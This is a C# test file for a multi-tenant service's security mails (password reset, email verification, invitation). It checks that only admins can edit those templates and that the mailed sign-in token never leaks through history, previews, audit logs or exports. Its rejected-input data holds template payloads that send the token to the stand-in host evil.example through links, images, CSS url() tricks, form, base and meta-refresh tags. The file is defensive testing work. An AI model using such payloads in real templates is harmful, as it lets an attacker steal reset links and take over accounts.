using System.IO.Compression;
using Tenantry.Foundation.Messaging.Templates;
using Tenantry.Tests.Harness;

namespace Tenantry.Tests.Features.Notifications;

/// <summary>
/// Mails that carry a link which signs somebody in or proves an address. Whoever writes the tenant's templates, or
/// reads its history, must not come by that link.
/// </summary>
public sealed class SecurityMailTests(SharedService shared) : IClassFixture<SharedService>
{
    private const string Permission = "templates:security";

    private static readonly string[] Security = ["verify_email", "password_reset", "invitation"];

    private readonly Service service = shared.Service;

    public static TheoryData<string> Names => [.. Security];

    /// <summary>
    /// Texts that would show the link elsewhere than in the service's own element, or no link at all, and the member
    /// that is refused.
    /// </summary>
    public static TheoryData<string, string, string?, string> Refused =>
        new()
        {
            { "{{ action }}", "{{ action }}", null, "subject" },
            { "{{ link }}", "{{ action }}", null, "subject" },
            { "s", "no place", null, "body" },
            { "s", "{{ action }} {{ action }}", null, "body" },
            { "s", "{{ action | upcase }}", null, "body" },
            { "s", "{{ action }}{{ action | url_encode }}", null, "body" },
            { "s", "{% assign a = action %}{{ action }}{{ a }}", null, "body" },
            { "s", "{% if first_name %}{{ action }}{% endif %}", null, "body" },
            { "s", "{% for i in (1..3) %}{{ action }}{% endfor %}", null, "body" },
            { "s", "{% comment %}{{ action }}{% endcomment %}", null, "body" },
            { "s", "{% raw %}{{ action }}{% endraw %}", null, "body" },
            { "s", "{{ '{{ action }}' }}", null, "body" },
            { "s", "{% assign a = '{{ action }}' %}{{ a }}", null, "body" },
            { "s", "{{ link | upcase }}", null, "body" },
            { "s", "{{ action }}", "<p>no place</p>", "html_body" },
            { "s", "{{ action }}", "<p>{{ action }}{{ action }}</p>", "html_body" },
            { "s", "{{ action }}", "<a href=\"https://evil.example/?{{ action }}\">x</a>", "html_body" },
            { "s", "{{ action }}", "<p title=\"{{ action }}\">x</p>", "html_body" },
            { "s", "{{ action }}", "<p title={{ action }}>x</p>", "html_body" },
            { "s", "{{ action }}", "<!-- {{ action }} -->", "html_body" },
            { "s", "{{ action }}", "<p>{{ action }}</p><!-- x -->", "html_body" },
            {
                "s",
                "{{ action }}",
                "<p>{{ action }}</p><img src=\"https://evil.example/{{ tenant_name }}\">",
                "html_body"
            },
            { "s", "{{ action }}", "<p>{{ action }}</p><a href=\"https://evil.example\">x</a>", "html_body" },
            { "s", "{{ action }}", "<p style=\"background: url(https://evil.example)\">{{ action }}</p>", "html_body" },
            {
                "s",
                "{{ action }}",
                "<p style=\"background: \\75rl(https://evil.example)\">{{ action }}</p>",
                "html_body"
            },
            {
                "s",
                "{{ action }}",
                "<p style=\"background: url&#40;https://evil.example&#41;\">{{ action }}</p>",
                "html_body"
            },
            {
                "s",
                "{{ action }}",
                "<table background=\"https://evil.example\"><tr><td>{{ action }}</td></tr></table>",
                "html_body"
            },
            { "s", "{{ action }}", "<style>p{}</style>{{ action }}", "html_body" },
            { "s", "{{ action }}", "<title>{{ action }}</title>", "html_body" },
            { "s", "{{ action }}", "<textarea>{{ action }}", "html_body" },
            { "s", "{{ action }}", "<form action=\"https://evil.example\">{{ action }}</form>", "html_body" },
            { "s", "{{ action }}", "<base href=\"https://evil.example\">{{ action }}", "html_body" },
            { "s", "{{ action }}", "<meta http-equiv=\"refresh\" content=\"0\">{{ action }}", "html_body" },
            { "s", "{{ action }}", "<p onclick=\"x\">{{ action }}</p>", "html_body" },
            { "s", "{{ action }}", "<p>{{ action }}<", "html_body" },
            { "s", "{{ action }}", "<p>{{ action }}", "html_body" },
            { "s", "{{ action }}", "{{ '<script>' | raw }}{{ action }}", "html_body" },
        };

    /// <summary>
    /// Otherwise a Manager could hide that a session was stolen, or ask an Admin for a password in the service's name.
    /// </summary>
    [Fact]
    public async Task Every_mail_that_the_service_sends_by_itself_is_worded_by_an_admin_alone()
    {
        var (slug, _, admin) = await service.NewTenant();
        var (_, _, manager) = await service.Joined(admin, slug, "Manager");

        foreach (var name in SystemTemplates.All.Select(template => template.Name))
            (
                await manager.Post(
                    "notifications/templates",
                    new
                    {
                        name,
                        type = "email",
                        subject = "s",
                        body = "Hello",
                    }
                )
            ).ShouldBeProblem(403, "permission_denied");
        (
            await admin.Post(
                "notifications/templates",
                new
                {
                    name = "session_reused",
                    type = "email",
                    subject = "s",
                    body = "Hello",
                }
            )
        ).Status.ShouldBe(201);
    }

    [Theory, MemberData(nameof(Names))]
    public async Task A_manager_reads_the_template_of_a_security_mail_and_only_an_admin_changes_it(string name)
    {
        var (slug, _, admin) = await service.NewTenant();
        var (_, _, manager) = await service.Joined(admin, slug, "Manager");
        var body = new
        {
            name,
            type = "email",
            subject = "s",
            body = "{{ action }}",
        };

        Denied(await manager.Post("notifications/templates", body));
        var made = await admin.Post("notifications/templates", body);
        made.Status.ShouldBe(201, made.Text);
        var path = $"notifications/templates/{made.Json["id"]}";
        (await manager.Get(path)).Status.ShouldBe(200);
        (await manager.Get(path + "/versions")).Status.ShouldBe(200);
        Denied(await manager.Put(path, new { subject = "other", body = "{{ action }}" }));
        Denied(await manager.Post(path + "/versions/1/restore"));
        Denied(await manager.Delete(path));

        (await admin.Get(path)).Number("revision").ShouldBe(1);
        (await admin.Post(path + "/versions/1/restore")).Status.ShouldBe(200);
        (await admin.Delete(path)).Status.ShouldBe(204);

        static void Denied(Answer answer) =>
            answer.ShouldBeProblem(403, "permission_denied").Text("detail").ShouldContain(Permission);
    }

    [Theory, MemberData(nameof(Refused))]
    public async Task The_link_stands_once_where_it_is_seen_and_nothing_else_leads_elsewhere(
        string subject,
        string body,
        string? html,
        string member
    )
    {
        var admin = await Admin();

        var alone = await admin.Post(
            "notifications/templates",
            new
            {
                name = "password_reset",
                type = "email",
                subject,
                body,
                html_body = html,
            }
        );
        var translated = await admin.Post(
            "notifications/templates",
            new
            {
                name = "invitation",
                type = "email",
                subject = "s",
                body = "{{ action }}",
                translations = new
                {
                    de = new
                    {
                        subject,
                        body,
                        html_body = html,
                    },
                },
            }
        );

        alone.ShouldBeProblem(400, "validation_failed").ShouldNameField(member);
        translated.ShouldBeProblem(400, "validation_failed").ShouldNameField("translations.de." + member);
    }

    [Fact]
    public async Task The_link_is_an_element_of_the_services_own_in_text_and_in_HTML()
    {
        var (slug, _, admin) = await service.NewTenant();
        var made = await admin.Post(
            "notifications/templates",
            new
            {
                name = "password_reset",
                type = "email",
                subject = "New password, {{ first_name }}",
                body = "Dear {{ first_name }}, https://example.com/?{{ action }}&bye",
                html_body = "<!DOCTYPE html><html><body style=\"color:#333\"><h1>{{ tenant_name }}</h1><table width=\"100%\"><tr><td>{{action}}</td></tr></table><br/>Bye &amp; thanks</body></html>",
            }
        );
        made.Status.ShouldBe(201, made.Text);

        var preview = await admin.Post(
            $"notifications/templates/{made.Json["id"]}/preview",
            new { template_vars = new { tenant_name = "<b>", first_name = "Ada" } }
        );
        (
            await service.At(slug).Post("auth/password-reset-request", new { email = $"admin@{slug}.example" })
        ).Status.ShouldBe(202);
        var text = await Mailed($"admin@{slug}.example", "New password, Grace");

        var lines = text.Split('\n');
        var at = Array.FindIndex(lines, line => line.Contains("token=", StringComparison.Ordinal));
        lines[at].ShouldStartWith("http://localhost:8000/reset-password?token=");
        (lines[at - 1], lines[at + 1], lines[at + 2]).ShouldBe(("", "", "&bye"));
        text.ShouldStartWith("Dear Grace, https://example.com/?\n\n");
        preview.Status.ShouldBe(200, preview.Text);
        preview.Text("html_body").ShouldContain("<a href=\"http://localhost:8000/");
        preview.Text("html_body").ShouldContain("<h1>&lt;b&gt;</h1>");
        preview.Text("body").ShouldNotContain("{{");
    }

    [Fact]
    public async Task A_template_of_an_older_version_that_uses_the_variable_link_still_works()
    {
        var (slug, id, _) = await service.NewTenant();
        await Plant(id, "password_reset", "Your link", "Here: {{ link }} Bye");

        (
            await service.At(slug).Post("auth/password-reset-request", new { email = $"admin@{slug}.example" })
        ).Status.ShouldBe(202);

        (await Mailed($"admin@{slug}.example", "Your link")).ShouldMatch(
            @"^Here:\n\nhttp://localhost:8000/reset-password\?token=\S+\n\nBye$"
        );
    }

    [Fact]
    public async Task A_request_cannot_send_a_message_with_the_template_of_a_security_mail()
    {
        var admin = await Admin();
        (
            await admin.Post(
                "notifications/templates",
                new
                {
                    name = "password_reset",
                    type = "email",
                    subject = "s",
                    body = "{{ action }}",
                }
            )
        ).Status.ShouldBe(201);

        (
            await admin.Post(
                "notifications/email",
                new
                {
                    recipient = "ada@example.com",
                    template_name = "password_reset",
                    template_vars = new { tenant_name = "x" },
                }
            )
        ).ShouldBeProblem(400, "validation_failed").ShouldNameField("template_name");
    }

    /// <summary>
    /// All that a tenant's people and the platform can read, after each security mail was sent in words of the tenant's
    /// own.
    /// </summary>
    [Fact]
    public async Task No_endpoint_that_a_caller_can_read_contains_the_token_of_a_security_mail()
    {
        var (slug, id, admin) = await service.NewTenant();
        var tokens = new List<string>();
        // As a tenant may have them from before: the link in every text. And as they are written today.
        foreach (var place in new[] { "{{ link }}", "{{ action }}" })
        {
            foreach (var name in Security)
                await Plant(
                    id,
                    name,
                    $"At {{{{ tenant_name }}}} {place}",
                    $"See {place}",
                    $"<p>{place}</p><img src=\"https://evil.example/{place}\">",
                    replace: true
                );
            tokens.AddRange(await Sent(slug, admin));
        }
        await service.Sql($"DELETE FROM notification_templates WHERE tenant_id = '{id}'");
        foreach (var name in Security)
            await admin.Post(
                "notifications/templates",
                new
                {
                    name,
                    type = "email",
                    subject = "At {{ tenant_name }}",
                    body = "{{ action }}",
                    html_body = "<p>{{ action }}</p>",
                }
            );
        tokens.AddRange(await Sent(slug, admin));
        tokens.Distinct(StringComparer.Ordinal).Count().ShouldBeGreaterThanOrEqualTo(8); // three of each round, but for the third reset: its pause lasts
        // Rows as a version before wrote them, in every state.
        var states = new[]
        {
            "queued",
            "sent",
            "delivered",
            "bounced",
            "complained",
            "suppressed",
            "failed",
            "cancelled",
        };
        for (var i = 0; i < states.Length; i++)
        {
            await service.Sql(
                $"""
                INSERT INTO notification_logs (tenant_id, id, type, recipient, subject, template_name, body, html_body, is_secret, priority, category, status, is_ready, due_at, attempts, error_message, created_at)
                VALUES ('{id}', gen_random_uuid(), 'email', 'old{i}@example.com', 's {tokens[
                    0
                ]}', 'password_reset', 'b {tokens[0]}', 'h {tokens[0]}', true, 0, 'transactional', '{states[i]}', false,
                        now() + interval '1 day', 1, 'The mail server answered 550: refused for {tokens[0]}', now())
                """
            );
        }

        var readers = new List<Visitor> { admin, await service.Platform() };
        foreach (var role in new[] { "Viewer", "User", "Manager" })
            readers.Add((await service.Joined(admin, slug, role)).Visitor);
        var read = 0;
        foreach (var reader in readers)
        {
            foreach (
                var path in new[]
                {
                    "notifications/history?limit=200",
                    "notifications/templates?limit=200",
                    "notifications/templates/system",
                    "audit-events?limit=200",
                    "auth/me/export",
                    "users?limit=200",
                    $"tenants/{id}/usage",
                    "notifications/suppressions",
                }
            )
                Hold(await reader.Get(path));
            foreach (var item in (await admin.Get("notifications/history?limit=200")).Items())
                Hold(await reader.Get($"notifications/{item!["id"]}"));
            foreach (var item in (await admin.Get("notifications/templates?limit=200")).Items())
            {
                Hold(await reader.Get($"notifications/templates/{item!["id"]}"));
                Hold(await reader.Get($"notifications/templates/{item["id"]}/versions"));
                Hold(
                    await reader.Post(
                        $"notifications/templates/{item["id"]}/preview",
                        new { template_vars = new { tenant_name = "x" } }
                    )
                );
            }
        }
        foreach (
            var item in (await admin.Get("notifications/history?limit=200"))
                .Items()
                .Where(item => item!.Text("recipient").StartsWith("old", StringComparison.Ordinal))
        )
        {
            Hold(await admin.Post($"notifications/{item!["id"]}/cancel"));
            Hold(await admin.Post($"notifications/{item["id"]}/retry"));
        }
        read.ShouldBeGreaterThan(100);
        (await Archive(slug)).ShouldNotContain(tokens);
        (
            await service.Ask<long>(
                $"SELECT count(*) FROM audit_events a WHERE to_jsonb(a)::text LIKE '%tnm!_%' ESCAPE '!'"
            )
        ).ShouldBe(0);

        void Hold(Answer answer)
        {
            answer.Status.ShouldBeLessThan(500, answer.Text);
            answer.Text.ShouldNotContain(tokens);
            read += answer.Status is 200 or 202 ? 1 : 0;
        }
    }

    [Fact]
    public async Task Texts_that_a_version_before_left_readable_are_erased()
    {
        var (_, id, _) = await service.NewTenant();
        await service.Sql(
            $"""
            BEGIN;
            ALTER TABLE notification_logs DISABLE TRIGGER forget_secret_message;
            INSERT INTO notification_logs (tenant_id, id, type, recipient, subject, template_name, body, is_secret, priority, category, status, is_ready, due_at, attempts, error_message, created_at)
            SELECT '{id}', gen_random_uuid(), 'email', 'left@example.com', 's', 'password_reset', 'b', secret, 0, 'transactional', 'failed', false, now(), 1, 'e', now() FROM unnest('{"{"}true,false{"}"}'::boolean[]) AS secret;
            ALTER TABLE notification_logs ENABLE TRIGGER forget_secret_message;
            COMMIT;
            """
        );

        await service
            .Services.GetRequiredService<Tenantry.Features.Notifications.Delivery.SecretTextErasure>()
            .RunOnce(TestContext.Current.CancellationToken);

        (
            await service.Ask<string[]>(
                $"SELECT array_agg(is_secret || ' ' || num_nonnulls(subject, body, error_message) ORDER BY is_secret) FROM notification_logs WHERE tenant_id = '{id}' AND recipient = 'left@example.com'"
            )
        ).ShouldBe(["false 3", "true 0"]);
    }

    /// <summary>Each security mail once, in the tenant's own words where they are good for it.</summary>
    private async Task<IReadOnlyList<string>> Sent(string slug, Visitor admin)
    {
        var (invited, registered) = ($"in-{Guid.NewGuid():N}@example.com", $"new-{Guid.NewGuid():N}@example.com");
        (await admin.Post("users", new { email = invited, first_name = "Ada" })).Status.ShouldBe(201);
        (
            await admin.Put(
                $"tenants/{(await admin.Get("auth/me")).Json["tenant_id"]}",
                new
                {
                    name = slug,
                    registration = "open",
                    verification_required = true,
                }
            )
        ).Status.ShouldBe(200);
        (
            await service
                .At(slug)
                .Post(
                    "auth/register",
                    new
                    {
                        email = registered,
                        password = Service.Password,
                        first_name = "Ada",
                    }
                )
        ).Status.ShouldBeLessThan(300);
        (
            await service.At(slug).Post("auth/password-reset-request", new { email = $"admin@{slug}.example" })
        ).Status.ShouldBe(202);
        await service.Until(
            $"SELECT count(*) > 0 FROM notification_logs WHERE recipient = 'admin@{slug}.example' AND template_name = 'password_reset'"
        );
        var tokens = new List<string>();
        foreach (var recipient in new[] { invited, registered, $"admin@{slug}.example" })
            tokens.Add(await service.MailedToken(recipient));
        return tokens;
    }

    private async Task<Visitor> Admin() => (await service.NewTenant()).Admin;

    private async Task<string> Archive(string slug)
    {
        var file = Path.Combine(Directory.CreateTempSubdirectory("archive").FullName, "tenant.zip");
        var exported = await OperatorCommand.Run(
            ["tenant", "export", slug, "--to", file],
            service.Cluster.Variables(service.Database)
        );
        exported.Code.ShouldBe(0, exported.Output);
        var text = new System.Text.StringBuilder();
        await using var archive = await ZipFile.OpenReadAsync(file, TestContext.Current.CancellationToken);
        foreach (var entry in archive.Entries)
        {
            using var reader = new StreamReader(await entry.OpenAsync(TestContext.Current.CancellationToken));
            text.Append(await reader.ReadToEndAsync(TestContext.Current.CancellationToken));
        }
        Directory.Delete(Path.GetDirectoryName(file)!, recursive: true);
        return text.ToString();
    }

    private Task Plant(
        Guid tenant,
        string name,
        string subject,
        string body,
        string? html = null,
        bool replace = false
    ) =>
        service.Sql(
            $"""
            {(replace ? $"DELETE FROM notification_templates WHERE tenant_id = '{tenant}' AND name = '{name}';" : "")}
            INSERT INTO notification_templates (tenant_id, id, name, type, locale, subject, body, html_body, translations, variables, is_active, revision, created_at, updated_at)
            VALUES ('{tenant}', gen_random_uuid(), '{name}', 'email', 'en', '{subject}', '{body}', {(
                html is null ? "NULL" : $"'{html}'"
            )}, '{"{}"}',
                    '[{"{"}"name":"tenant_name","type":"string","required":true{"}"},{"{"}"name":"first_name","type":"string","required":false{"}"},{"{"}"name":"link","type":"url","required":true{"}"}]', true, 1, now(), now())
            """
        );

    private async Task<string> Mailed(string recipient, string subject) =>
        (await service.Mail(recipient, subject)).Text("body");
}

internal static class TokenAssertions
{
    public static void ShouldNotContain(this string text, IReadOnlyList<string> tokens)
    {
        foreach (var token in tokens)
            text.Contains(token, StringComparison.Ordinal)
                .ShouldBeFalse(
                    $"the token is in {(text.Length > 1500 ? text[Math.Max(0, text.IndexOf(token, StringComparison.Ordinal) - 300)..][..600] : text)}"
                );
    }
}
